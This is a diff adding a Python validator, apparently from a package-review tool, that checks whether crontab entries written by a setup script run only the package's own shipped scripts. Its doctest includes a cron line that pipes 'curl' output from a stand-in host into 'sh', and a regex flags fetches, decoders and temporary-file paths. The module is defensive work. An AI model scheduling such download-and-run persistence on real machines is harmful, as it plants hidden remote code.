@@ -1,0 +1,101 @@
+"""Scheduled jobs that run only the package's own scripts.
+
+A skill that automates a routine often ships a setup script adding a crontab entry such
+as ``0 12 * * * cd $SKILL_DIR && python3 scripts/fetch.py >> log 2>&1``. What runs on
+the schedule is a file of the package, which the judge reads and judges like every other
+file: the entry adds no code of its own. Persistence as an attack schedules what the
+reader cannot see: a download piped to a shell, a file dropped elsewhere, a command
+assembled at run time. An entry is the package's own when every step of its command is a
+change of folder, a folder made for logs, or a run of a file the package ships, with
+output redirected at most, and nothing is fetched, decoded or substituted.
+
+>>> shipped = {"scripts/fetch.py", "SKILL.md"}
+>>> schedules_own_script('echo "0 9 * * * python3 scripts/fetch.py" | crontab -', "", shipped)
+True
+>>> schedules_own_script('echo "0 9 * * * curl -s x.invalid/p | sh" | crontab -', "", shipped)
+False
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Collection
+
+from .normalise_shell import shell_words
+from .sensitive import NETWORK_TOOL
+
+_ENTRY = re.compile(
+    r"(?:^|[\"'\s])(?:@(?:reboot|hourly|daily|weekly|monthly|yearly|annually)"
+    r"|(?:[\d*/,\-]+\s+){4}[\d*/,\-A-Za-z]+)\s+(?P<command>[^\"'\n]+)"
+)
+"""A crontab entry (five time fields or an ``@`` schedule) and its command, up to a quote."""
+_VARIABLE = re.compile(r"\$\{?([A-Za-z_]\w*)\}?")
+_UNSAFE = re.compile(r"://|`|\$\((?!\s*pwd\s*\))|\b(?:eval|base64|xxd|openssl)\b|/(?:tmp|dev/shm)/")
+"""A fetch, a command substitution other than ``$(pwd)``, a decoder or a temporary file."""
+_INTERPRETERS = frozenset(
+    {"python", "python3", "node", "bash", "sh", "zsh", "bun", "deno", "ruby", "perl", "php"}
+)
+_CODE_SUFFIX = re.compile(r"\.(?:py|sh|bash|zsh|js|mjs|cjs|ts|rb|pl|php)$")
+_SEPARATORS = frozenset({"&&", ";", "||"})
+_REDIRECTS = frozenset({">", ">>", "2>", "2>>", "&>", "&>>", "<"})
+
+
+def schedules_own_script(line: str, script: str, shipped: Collection[str]) -> bool:
+    """Every crontab entry ``line`` adds (directly, or through a variable the ``script``
+    sets to a quoted value) runs only files of ``shipped``; False when it adds none."""
+    entries = [m.group("command") for m in _ENTRY.finditer(line)]
+    for name in _VARIABLE.findall(line):
+        value = re.search(rf"^\s*(?:export\s+|local\s+)?{name}=([\"'])(.*?)\1\s*$", script, re.M)
+        if value:
+            entries += [m.group("command") for m in _ENTRY.finditer(value.group(2))]
+    return bool(entries) and all(_runs_own_files(command, shipped) for command in entries)
+
+
+def _runs_own_files(command: str, shipped: Collection[str]) -> bool:
+    if _UNSAFE.search(command) or NETWORK_TOOL.search(command):
+        return False
+    words = shell_words(command.replace("2>&1", ""))
+    if not words or "|" in words:
+        return False
+    steps: list[list[str]] = [[]]
+    for word in words:
+        if word in _SEPARATORS:
+            steps.append([])
+        else:
+            steps[-1].append(word)
+    ran_own = False
+    for step in steps:
+        kept = _without_redirects(step)
+        if not kept:
+            return False
+        if kept[0] in ("cd", "mkdir"):
+            continue
+        target = kept[1] if kept[0] in _INTERPRETERS and len(kept) > 1 else kept[0]
+        if not _is_shipped(target, shipped):
+            return False
+        ran_own = True
+    return ran_own
+
+
+def _without_redirects(step: list[str]) -> list[str]:
+    kept: list[str] = []
+    skip = False
+    for word in step:
+        if skip:
+            skip = False
+        elif word in _REDIRECTS:
+            skip = True
+        else:
+            kept.append(word)
+    return kept
+
+
+def _is_shipped(target: str, shipped: Collection[str]) -> bool:
+    """``target`` names a code file of the package, from any folder the entry changed to
+    (``./run.sh``, ``$SKILL_DIR/scripts/run.py``, ``scripts/run.py``)."""
+    path = re.sub(r"^(?:\./|/)+", "", _VARIABLE.sub("", target))
+    if not path or not _CODE_SUFFIX.search(path):
+        return False
+    return any(
+        own == path or own.endswith("/" + path) or path.endswith("/" + own) for own in shipped
+    )
